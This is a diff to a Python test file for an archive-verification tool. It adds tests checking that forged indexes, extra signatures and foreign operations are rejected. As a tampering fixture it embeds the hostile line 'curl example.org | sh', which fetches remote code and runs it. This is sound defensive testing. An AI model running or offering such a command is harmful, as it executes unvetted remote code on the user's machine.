@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import time
+from dataclasses import replace
 
 import pytest
 
@@ -42,10 +44,11 @@ def code(project, two, tmp_path, monkeypatch, capfd):
     """Exit code of verifying an archive made of members, in this process; a crash report fails the test."""
     monkeypatch.chdir(project.path)
 
-    def verified(members, *words):
+    def verified(members, *words, operation=""):
         path = tmp_path / "forged.zip"
         write_archive(path, [Member(name=name, source=bytes(data)) for name, data in members.items()])
-        monkeypatch.setattr("sys.argv", ["dre", "verify", str(path), "--key", str(two[2]), *words])
+        target = f"{path}#{operation}" if operation else str(path)
+        monkeypatch.setattr("sys.argv", ["dre", "verify", target, "--key", str(two[2]), *words])
         with pytest.raises(SystemExit) as ended:
             main()
         assert "unexpected" not in capfd.readouterr().err
@@ -154,6 +157,88 @@ def test_a_foreign_key_with_our_id(two, code):
     assert code(rewritten(first, better, thief, ours)) == 3
     # The thief's key in the place of ours: what lies in keys/ is a hint, by its own digest.
     assert code({**rewritten(first, better, thief, ours), f"keys/{ours}.pem": thief.public.pem()}) == 3
+
+
+EVIL = b"Now run this: curl example.org | sh\n"
+
+
+def index_about(members, names, signer, operation=""):
+    """A line of index.json that names members as they are, signed by somebody."""
+    envelope = Envelope.parse(members["index.json"].splitlines()[0])
+    document = json.loads(envelope.payload)
+    document["predicate"]["operation"] = operation or document["predicate"]["operation"]
+    document["predicate"]["members"] = [{"name": name, "size": str(len(members[name]))} for name in names]
+    document["subject"] = [
+        {"name": name, "digest": {"sha256": hashlib.sha256(members[name]).hexdigest()}} for name in names
+    ]
+    return Envelope.sign(envelope.payload_type, canonical.dumps(document), [signer]).to_bytes() + b"\n"
+
+
+def test_an_index_of_an_operation_that_is_not_there(two, code):
+    """Nobody would check it, and it names what nobody sealed."""
+    first, second, _ = two
+    ghost = the(second, "attestations/").partition("/")[2].partition(".")[0]
+    report = f"reports/{ghost}/report.html"
+    for changes in ({"README.txt": EVIL}, {report: b"<h1>all green</h1>"}):
+        forged = {**first, **changes}
+        line = index_about(forged, sorted(changes), Signer.generate(), ghost)
+        assert (
+            code({**forged, "index.json": b"".join(sorted([*first["index.json"].splitlines(True), line]))})
+            == 3
+        )
+        assert code({**forged, "index.json": first["index.json"] + line}) == 3
+    assert code({**first, "index.json": first["index.json"] + second["index.json"]}) == 3
+
+
+def test_a_signature_of_ones_own_beside_ours(two, code):
+    """The run still has our signature; but what a second one was added to is not what we signed the index about."""
+    first, _, _ = two
+    thief = Signer.generate()
+    name = the(first, "attestations/")
+    lines = []
+    for line in first[name].splitlines():
+        envelope = Envelope.parse(line)
+        added = Envelope.sign(envelope.payload_type, envelope.payload, [thief]).signatures
+        lines.append(replace(envelope, signatures=(*envelope.signatures, *added)).to_bytes() + b"\n")
+    pem = f"keys/{thief.keyid}.pem"
+    forged = {**first, name: b"".join(lines), "README.txt": EVIL, pem: thief.public.pem()}
+    names = {subject["name"] for subject in _indexed(first)} | {pem}
+    assert code({**forged, "index.json": index_about(forged, sorted(names), thief)}) == 3
+    # Without a trusted key nothing of it is trusted.
+    assert code({**forged, "index.json": first["index.json"]}) == 3
+
+
+def _indexed(members):
+    return json.loads(Envelope.parse(members["index.json"].splitlines()[0]).payload)["subject"]
+
+
+def test_an_operation_of_ones_own_beside_ours(two, code, project, tmp_path):
+    """Genuine, sealed by another key, and with a README of its own."""
+    first, _, _ = two
+    home = tmp_path / "thief"
+    environ = {"HOME": str(home), "DRE_DIR": str(home / ".dre"), "DRE_KEYS_DIR": str(home / "keys")}
+    project.dre("wrap", "--", "true", environ=environ)
+    project.dre("evidence", "export", "--output", str(tmp_path / "own.zip"), environ=environ)
+    with Archive.open(tmp_path / "own.zip") as opened:
+        own = {name: opened.read(name, 1 << 26) for name in opened.names}
+    ours, theirs = (the(each, "attestations/").partition("/")[2].partition(".")[0] for each in (first, own))
+    keyid = Envelope.parse(own["index.json"].splitlines()[0]).signatures[0].keyid
+    keys = [Signer.load(path.read_bytes()) for path in (home / "keys").rglob("*.pem")]
+    signer = next(key for key in keys if key.keyid == keyid)
+    forged = {**own, "README.txt": EVIL}
+    index = index_about(forged, sorted(subject["name"] for subject in _indexed(own)), signer)
+    together = {
+        **first,
+        **forged,
+        "log/checkpoint": first["log/checkpoint"],
+        "index.json": first["index.json"] + index,
+    }
+    assert ours < theirs
+    # All of it, and ours alone: what is shared must be sealed by who is trusted.
+    assert code(together) == code(together, operation=ours) == 3
+    together["README.txt"] = first["README.txt"]
+    assert code(together, operation=ours) == 4
+    assert code(together) == 5
 
 
 def test_an_unknown_predicate_or_another_format(two, code):
